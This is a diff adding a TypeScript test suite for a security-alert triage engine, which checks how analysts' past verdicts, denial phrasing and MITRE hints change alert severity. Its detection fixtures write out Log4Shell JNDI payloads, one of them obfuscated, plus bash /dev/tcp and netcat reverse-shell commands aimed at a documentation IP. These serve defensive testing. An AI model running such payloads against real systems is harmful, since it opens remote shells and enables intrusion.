@@ -1,0 +1,145 @@
+import assert from "node:assert/strict";
+import { seededRandom } from "../src/base/random.js";
+import { pastThreat, type PastThreat } from "../src/threats/history.js";
+import { scenarioSignal } from "../src/threats/scenarios.js";
+import { decide } from "../src/threats/triage.js";
+import { says } from "../src/threats/texts.js";
+import type { Decisions } from "../src/contract/requests.js";
+import type { Metadata, ThreatSignal } from "../src/contract/signal.js";
+import type { ThreatAnalysis } from "../src/contract/threat.js";
+import { analyze, NOON, past, signalOf } from "./support/analysis.js";
+
+/** An alert of a rule on a machine, of the level that its source gives it. */
+const alert = (more: Metadata = {}): ThreatSignal =>
+  signalOf("anomaly_detection", {
+    source: "wazuh",
+    source_severity: "HIGH",
+    rule_id: "23506",
+    endpoint_name: "web-1",
+    ...more,
+  });
+
+/** The threat of an alert after a person's decision. */
+async function decided(
+  signal: ThreatSignal,
+  decision: Omit<Decisions, "version">,
+): Promise<PastThreat> {
+  const threat = await analyze(signal);
+  return pastThreat(
+    decide(threat, { version: 1, ...decision }, "Ada", "2026-06-10T11:30:00.000000"),
+  );
+}
+
+const score = (threat: ThreatAnalysis) => threat.false_positive_score?.score ?? 0;
+const factsOf = (threat: ThreatAnalysis) => threat.evidence.map(({ fact }) => fact).join("\n");
+
+describe("history", () => {
+  it("is not what the analysis itself thought: the same again and again is the same", async () => {
+    for (const name of ["crypto_surge", "bot_attack", "geo_impossible", "critical_threat"]) {
+      const signal = scenarioSignal(name, seededRandom(1), NOON);
+      assert.ok(signal !== null);
+      const history: PastThreat[] = [];
+      const seen = new Set<string>();
+      for (let times = 0; times < 6; times += 1) {
+        const threat = await analyze(signal, history);
+        const { similar_resolved_as_real: real } = threat.false_positive_score ?? {};
+        seen.add(JSON.stringify([threat.severity, score(threat), real]));
+        history.unshift(pastThreat(threat));
+      }
+      assert.equal(seen.size, 1, `${name}: ${[...seen].join(" ")}`);
+    }
+  });
+
+  it("is what people decided of the same rule on the same machine, with who and when", async () => {
+    const fresh = await analyze(alert());
+    const before = await decided(alert(), { status: "false_positive", note: "Accepted risk" });
+    const threat = await analyze(alert(), [before]);
+    assert.deepEqual([fresh.severity, threat.severity], ["HIGH", "MEDIUM"]);
+    assert.ok(score(threat) > score(fresh));
+    assert.equal(threat.false_positive_score?.similar_resolved_as_fp, 1);
+    const cited = threat.evidence.find(({ fact }) => fact.startsWith("People called"));
+    assert.equal(
+      cited?.fact,
+      'People called 1 of 1 such threat false, last Ada at 2026-06-10T11:30:00.000000: "Accepted risk"',
+    );
+    assert.ok(cited.fields.some((field) => /^threats\/[-\w]+\/status$/.test(field)));
+  });
+
+  it("makes what people called real graver", async () => {
+    const medium = alert({ source_severity: "MEDIUM" });
+    const before = await decided(medium, { confirmed: true });
+    const threat = await analyze(medium, [before]);
+    assert.deepEqual([(await analyze(medium)).severity, threat.severity], ["MEDIUM", "HIGH"]);
+    assert.match(factsOf(threat), /People called 1 of 1 such threat real, last Ada/);
+  });
+
+  it("tells a note of the same, and does not weigh it", async () => {
+    const before = await decided(alert(), { note: "harmless, planned" });
+    const threat = await analyze(alert(), [before]);
+    assert.match(factsOf(threat), /Ada wrote of such a threat at 2026-06-10T11:30.*: "harmless/);
+    assert.deepEqual([threat.severity, score(threat)], ["HIGH", score(await analyze(alert()))]);
+  });
+
+  it("is none of another rule, or another machine", async () => {
+    const before = await decided(alert(), { status: "false_positive" });
+    for (const other of [alert({ rule_id: "1" }), alert({ endpoint_name: "web-2" })]) {
+      const threat = await analyze(other, [before]);
+      assert.equal(threat.severity, "HIGH");
+      assert.doesNotMatch(factsOf(threat), /People called/);
+    }
+  });
+
+  it("of many machines is not that of many customers", async () => {
+    const machines = Array.from({ length: 5 }, (_, index) =>
+      past({ customer: `web-${index}`, subjects: [`host web-${index}`] }),
+    );
+    const customers = machines.map(({ subjects: _, ...threat }) => threat);
+    const signal = signalOf("bot_traffic", {});
+    assert.doesNotMatch(factsOf(await analyze(signal, machines)), /customers report/);
+    assert.match(factsOf(await analyze(signal, customers)), /5 customers report bot traffic/);
+  });
+});
+
+describe("what a signal says", () => {
+  const device = (...indicators: readonly string[]) =>
+    analyze(signalOf("device_compromise", { indicators }));
+
+  it("is read with its denials", async () => {
+    for (const said of ["no ransom note found", "mimikatz was not seen", "rootkit check: none"]) {
+      const threat = await device(said);
+      assert.equal(threat.severity, "MEDIUM", said);
+      assert.notEqual(threat.response_plan?.primary_action.action_type, "quarantine", said);
+    }
+    assert.equal((await device("no virus found, ransom note written")).severity, "HIGH");
+    assert.ok(says("nothing open; files were encrypted", /files.{0,12}encrypted/));
+    assert.ok(!says("files weren't encrypted", /files.{0,12}encrypted/));
+  });
+
+  it("counts once, and not at all where it says nothing", async () => {
+    assert.equal((await device(...Array<string>(20).fill("a"))).severity, "MEDIUM");
+    const stopped = "security agent stopped";
+    assert.deepEqual((await device(stopped, stopped)).severity, (await device(stopped)).severity);
+  });
+
+  const proofs: readonly (readonly [string, Metadata, readonly string[]])[] = [
+    ["T1486", {}, ["T1486"]],
+    ["Log4Shell", { full_log: 'GET / "${jndi:ldap://203.0.113.7/a}"' }, []],
+    ["hidden Log4Shell", { user_agent: "${${lower:j}ndi:ldap://203.0.113.7/a}" }, []],
+    ["a shell", { raw: { data: { cmd: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" } } }, []],
+    ["netcat", { full_log: "nc -e /bin/sh 203.0.113.7 4444" }, []],
+  ];
+  for (const [what, metadata, hints] of proofs) {
+    it(`is grave with ${what}, whatever the source's level`, async () => {
+      const signal = { ...alert({ source_severity: "LOW", ...metadata }), mitre_hints: hints };
+      const threat = await analyze(signal);
+      assert.ok(["HIGH", "CRITICAL"].includes(threat.severity), threat.severity);
+      assert.match(factsOf(threat), /It shows/);
+    });
+  }
+
+  it("is as grave as its source's level without such proof", async () => {
+    for (const severity of ["INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL"]) {
+      assert.equal((await analyze(alert({ source_severity: severity }))).severity, severity);
+    }
+  });
+});
